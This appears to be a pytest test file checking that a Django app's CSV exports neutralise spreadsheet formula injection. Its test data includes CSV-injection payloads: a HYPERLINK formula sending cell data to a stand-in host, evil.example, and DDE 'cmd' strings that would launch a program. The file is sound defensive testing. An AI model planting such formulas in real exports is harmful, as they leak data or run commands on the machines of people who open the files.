"""CSV exports carry no live formulas (OWASP, CSV injection): text a spreadsheet would run as a
formula arrives with a leading single quote; ordinary text and numbers arrive as they were."""

import csv
import io

import pytest
from django.urls import reverse

from tests.conftest import persona
from tests.factories import make_reported_issue, suite
from visits import exports
from visits.models import CustodySuite, Issue, Scheme

# Each start a spreadsheet reads as a formula: =, +, -, @, a tab, a carriage return, and a
# formula behind leading whitespace.
PAYLOADS = {
    "equals": '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "plus": "+1+cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\tcalc",
    "carriage return": "\rcalc",
    "tab then equals": "\t=1+1",
    "space then equals": " =1+1",
}
ORDINARY = "Cell 4 call bell not working."


def rows_of(response) -> list[list[str]]:
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    return list(csv.reader(io.StringIO(response.content.decode("utf-8"), newline="")))


@pytest.fixture
def manager_client(client, db):
    client.force_login(persona("manager"))
    return client


@pytest.mark.parametrize("name", PAYLOADS)
def test_issue_export_neutralises_formulas(manager_client, name):
    payload = PAYLOADS[name]
    issue = make_reported_issue()
    ordinary = make_reported_issue()
    Issue.objects.filter(pk=issue.pk).update(
        description=payload, custody_number=payload[:40], outcome=payload
    )
    CustodySuite.objects.filter(pk=issue.suite_id).update(name=payload)
    rows = rows_of(manager_client.get(reverse("issue-export")))
    heading, by_id = rows[0], {row[0]: dict(zip(rows[0], row, strict=True)) for row in rows[1:]}
    assert heading[0] == "id"
    row = by_id[str(issue.pk)]
    for column in ("suite", "description", "outcome"):
        assert row[column] == "'" + payload, column
    assert row["custody number"] == "'" + payload[:40]  # the column holds 40 characters
    # The other issue's ordinary text is untouched (its suite shares the renamed one).
    assert by_id[str(ordinary.pk)]["description"] == ORDINARY
    assert by_id[str(ordinary.pk)]["status"] == "Raised"


@pytest.mark.parametrize("name", PAYLOADS)
def test_summary_csv_neutralises_a_suite_name(manager_client, name):
    payload = PAYLOADS[name]
    CustodySuite.objects.filter(pk=suite("Wymondham").pk).update(name=payload)
    rows = rows_of(manager_client.get(reverse("summary-csv")))
    heading = rows.index(exports.SUITE_HEADER)
    suites = {row[0]: row[1:] for row in rows[heading + 1 :]}
    assert suites["'" + payload] == ["0"] * 6
    assert payload not in suites
    assert suites["Aylsham"] == ["0"] * 6  # an ordinary name, unchanged


@pytest.mark.parametrize("name", PAYLOADS)
def test_national_return_neutralises_the_scheme_name(manager_client, name):
    payload = PAYLOADS[name]
    Scheme.objects.filter(slug="norfolk").update(name=payload)
    rows = rows_of(manager_client.get(reverse("summary-return"), {"scheme": "norfolk"}))
    row = dict(zip(rows[0], rows[1], strict=True))
    assert row["scheme"] == "'" + payload
    assert row["visits_made"] == "0"


def test_ordinary_text_and_numbers_are_unchanged(manager_client, monkeypatch):
    """Numbers, negative ones too, are written as numbers; only text is neutralised."""
    import visits.views.summaries as page

    real = page.read_summary

    def with_negatives(viewer, scope, *, form):
        summary = real(viewer, scope, form=form)
        summary.current.visits_made = -2
        summary.current.delay_average = -1.5
        summary.previous.visits_made = -7
        summary.suites[0].visits_made = -3
        return summary

    monkeypatch.setattr(page, "read_summary", with_negatives)
    rows = rows_of(manager_client.get(reverse("summary-csv")))
    figures = {row[1]: row[2:] for row in rows if len(row) == 4}
    assert figures["visits_made"] == ["-2", "-7"]
    assert figures["delay_average"] == ["-1.5", "0.0"]
    heading = rows.index(exports.SUITE_HEADER)
    assert rows[heading + 1][:2] == ["Aylsham", "-3"]
    # The raw bytes too: a number is never quoted or prefixed.
    body = manager_client.get(reverse("summary-csv")).content
    assert b"Visits made,visits_made,-2,-7\r\n" in body and b"'-" not in body

    import visits.summaries as core

    real_summarise = core.summarise

    def negative_return(*args, **kwargs):
        summary = real_summarise(*args, **kwargs)
        summary.current.visits_made = -4
        return summary

    monkeypatch.setattr(core, "summarise", negative_return)
    rows = rows_of(manager_client.get(reverse("summary-return")))
    row = dict(zip(rows[0], rows[1], strict=True))
    assert (row["scheme"], row["visits_made"], row["delay_average"]) == (
        "Norfolk Independent Custody Visiting Scheme",
        "-4",
        "0.0",
    )

    issue = make_reported_issue()
    rows = rows_of(manager_client.get(reverse("issue-export")))
    row = next(dict(zip(rows[0], r, strict=True)) for r in rows[1:] if r[0] == str(issue.pk))
    assert (row["description"], row["suite"], row["category"]) == (
        ORDINARY,
        "Wymondham",
        "Conditions and estate",
    )


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+44 1603 000000", "'+44 1603 000000"),
        ("-3", "'-3"),  # text that looks like a number is still text
        ("@user", "'@user"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        (" =1+1", "' =1+1"),
        ("\n  -1", "'\n  -1"),
        ("a=1", "a=1"),
        ("x-ray", "x-ray"),
        ("", ""),
        (None, ""),
        (-3, -3),
        (-2.5, -2.5),
        (0, 0),
    ],
)
def test_neutralise(value, written):
    assert exports.neutralise(value) == written


def test_the_writer_neutralises_every_cell_and_keeps_numbers():
    data = exports.csv_bytes([["name", "n"], ["=cmd", -3], ["ok, fine", 2.5]])
    assert data == b'name,n\r\n\'=cmd,-3\r\n"ok, fine",2.5\r\n'
